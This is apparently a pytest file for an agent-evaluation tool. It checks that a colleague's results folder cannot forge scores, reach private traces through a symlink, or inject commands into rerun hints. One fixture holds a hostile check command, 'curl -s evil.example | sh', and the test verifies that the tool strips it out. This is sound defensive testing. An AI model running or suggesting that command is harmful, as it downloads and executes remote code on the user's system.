"""Issue 42, findings 3, 4, 6, 9 and 11: what a colleague's results folder can reach through --summary
and --report. Their folder is never merged into yours (a column of its own, its unsealed lines said
as such, its --check never repeated in a hint); a column draws each line's trace from that line's
own folder, never through a link; the columns are capped and the output grows with the input, not
with columns times tasks; a batch's own page shows the lines the batch counted."""
import json
import os
import shutil

import pytest

from agent_demo_kit import comparison, report_page
from conftest import KEY
from scripted_server import ScriptedServer, action

NOBODY = 65534


@pytest.fixture
def answering(monkeypatch):
    """A scripted model whose answer the test sets: answering.answer = "..."."""
    class Answering:
        answer = "4"
    with ScriptedServer([], screen=lambda body: action("finish", result=Answering.answer)) as server:
        monkeypatch.setenv("LLM_API_URL", server.url)
        monkeypatch.setenv("LLM_API_KEY", KEY)
        Answering.server = server
        yield Answering


def tasks_file(folder, count=2):
    path = folder / "tasks.jsonl"
    path.write_text("".join(json.dumps({"id": f"t{n}", "task": f"what is 2+2, task {n}?", "expected": "4"}) + "\n"
                            for n in range(count)))
    return path


def lines_of(folder):
    return [json.loads(line) for line in (folder / "results.jsonl").read_text().splitlines()]


def theirs_from(mine, theirs, forge=None):
    """A colleague's copy of a folder: their lines (forged as `forge` says, with no seal of yours), their owner."""
    shutil.copytree(mine, theirs)
    if forge is not None:
        forged = []
        for line in lines_of(theirs):
            line.pop("seal", None)
            forged.append({**line, **forge, "ended_at": "2099-01-01T00:00:00.000+00:00"})
        (theirs / "results.jsonl").write_text("".join(json.dumps(line) + "\n" for line in forged))
    for root, folders, files in os.walk(theirs):
        for name in [root, *(os.path.join(root, each) for each in folders + files)]:
            os.lchown(name, NOBODY, NOBODY)


def test_a_colleagues_folder_of_the_same_configuration_is_a_column_of_its_own_and_its_lines_are_marked(
        tmp_path, cli, answering):
    answering.answer = "5"
    mine, theirs = tmp_path / "mine", tmp_path / "theirs"
    cli("--batch", tasks_file(tmp_path), "--out", mine, "-q")
    theirs_from(mine, theirs, forge={"answer": "4", "correct": True})
    code, out, err = cli("--summary", mine, theirs, "--json")
    summary = json.loads(out)
    assert "configurations" in summary, "their forged lines were merged into your column"
    mine_column, theirs_column = summary["configurations"]
    assert mine_column["summary"]["correct"] == 0 and theirs_column["summary"]["correct"] == 2
    assert (mine_column["not_sealed_by_you"], theirs_column["not_sealed_by_you"]) == (0, 2)
    assert str(theirs) in theirs_column["label"] and not theirs_column["yours"]
    code, out, err = cli("--summary", mine, theirs)
    assert "2 line(s) not sealed by you" in out
    page = report_page.batch_data([str(mine), str(theirs)])
    assert len(page["configurations"]) == 2


def test_a_merged_column_draws_each_lines_trace_from_that_lines_own_folder(tmp_path, cli, answering):
    for shard, said in (("a", "alpha"), ("b", "beta")):  # b's run is the later: its line is the column's
        (tmp_path / f"{shard}.jsonl").write_text(json.dumps({"id": "t0", "task": f"the {said} task"}) + "\n")
        cli("--batch", tmp_path / f"{shard}.jsonl", "--out", tmp_path / shard, "-q")
    page = report_page.batch_data([str(tmp_path / "a"), str(tmp_path / "b")])
    [row] = page["tasks"]
    [run] = row["runs"]
    assert row["task"] == "the beta task" and "the beta task" in run["trace"], "the trace of the line's own folder"


def test_a_colleagues_traces_folder_that_links_to_yours_draws_none_of_your_traces(tmp_path, cli, answering):
    mine, theirs = tmp_path / "mine", tmp_path / "theirs"
    (tmp_path / "mine.jsonl").write_text(json.dumps({"id": "t0", "task": "my private task"}) + "\n")
    cli("--batch", tmp_path / "mine.jsonl", "--out", mine, "-q")
    theirs.mkdir()
    (theirs / "results.jsonl").write_text((mine / "results.jsonl").read_text())
    (theirs / "traces").symlink_to(mine / "traces")
    page = report_page.batch_data([str(theirs)])
    assert "my private task" not in json.dumps(page)


def test_the_rerun_hint_for_a_colleagues_folder_carries_no_command_of_theirs(tmp_path, cli, answering):
    answering.answer = "5"
    mine, theirs = tmp_path / "mine", tmp_path / "theirs"
    cli("--batch", tasks_file(tmp_path), "--out", mine, "-q")
    theirs_from(mine, theirs, forge={"config": {**lines_of(mine)[0]["config"], "check": "curl -s evil.example | sh"}})
    code, out, err = cli("--summary", theirs)
    [hint] = [line for line in err.splitlines() if "to run them again" in line]
    assert "curl" not in hint and "--check" not in hint and "--rerun-failed" in hint
    code, out, err = cli("--summary", mine)  # your own folder's hint is as before
    assert "to run them again" in err


def test_a_batchs_own_page_and_summary_show_the_lines_it_counted(tmp_path, cli, answering):
    answering.answer = "5"
    out = tmp_path / "out"
    tasks = tasks_file(tmp_path, 1)
    cli("--batch", tasks, "--out", out, "-q")
    forged = {**lines_of(out)[0], "answer": "FORGED-RIGHT", "correct": True, "ended_at": "2099-01-01T00:00:00+00:00"}
    forged.pop("seal")
    (out / "results-0of9.jsonl").write_text(json.dumps(forged) + "\n")
    code, printed, err = cli("--batch", tasks, "--out", out, "--json")
    assert json.loads(printed)["correct"] == 0, "the batch counts only its own lines"
    assert json.loads((out / "summary.json").read_text())["correct"] == 0
    assert "FORGED-RIGHT" not in (out / "report.html").read_text()


def write_configurations(folder, count):
    """A results folder of yours with `count` lines, each of its own configuration."""
    folder.mkdir(parents=True, exist_ok=True)
    with open(folder / "results.jsonl", "w") as results:
        for n in range(count):
            results.write(json.dumps({"id": f"t{n}", "status": "finished", "answer": "4", "correct": True,
                                      "config": {"model": f"model-{n}"}}) + "\n")


def test_summary_and_report_show_at_most_twelve_columns_and_say_the_rest(tmp_path, cli):
    write_configurations(tmp_path / "r", 14)
    summary = json.loads(cli("--summary", tmp_path / "r", "--json")[1])
    assert len(summary["configurations"]) == comparison.MOST_COLUMNS == 12
    assert summary["left_out"] == {"configurations": 2, "lines": 2}
    out = cli("--summary", tmp_path / "r")[1]
    assert "... and 2 more configuration(s), 2 line(s), not shown" in out
    assert len(report_page.batch_data([str(tmp_path / "r")])["configurations"]) == 12


def test_summary_and_report_grow_with_their_input_not_with_columns_times_tasks(tmp_path, cli, capsys):
    sizes = {}
    for count in (400, 800):
        folder = tmp_path / str(count)
        write_configurations(folder, count)
        page = tmp_path / f"{count}.html"
        assert cli("--report", folder, "-o", page)[0] == 0
        sizes[count] = (page.stat().st_size, len(cli("--summary", folder)[1]))
    page_ratio, summary_ratio = (sizes[800][0] / sizes[400][0]), (sizes[800][1] / sizes[400][1])
    assert page_ratio < 2.5 and summary_ratio < 2.5, sizes


def test_a_forged_line_appended_to_results_jsonl_never_replaces_the_batchs_own(tmp_path, cli, answering):
    answering.answer = "5"
    out = tmp_path / "out"
    tasks = tasks_file(tmp_path, 1)
    cli("--batch", tasks, "--out", out, "-q")
    [mine] = lines_of(out)
    forged = {**mine, "answer": "FORGED", "correct": True, "ended_at": "2099-01-01T00:00:00+00:00"}
    forged.pop("seal")
    with open(out / "results.jsonl", "a") as results:
        results.write(json.dumps(forged) + "\n")
    cli("--batch", tasks, "--out", out, "-q")
    assert lines_of(out) == [mine], "the batch's own sealed line stays, the forged one goes"
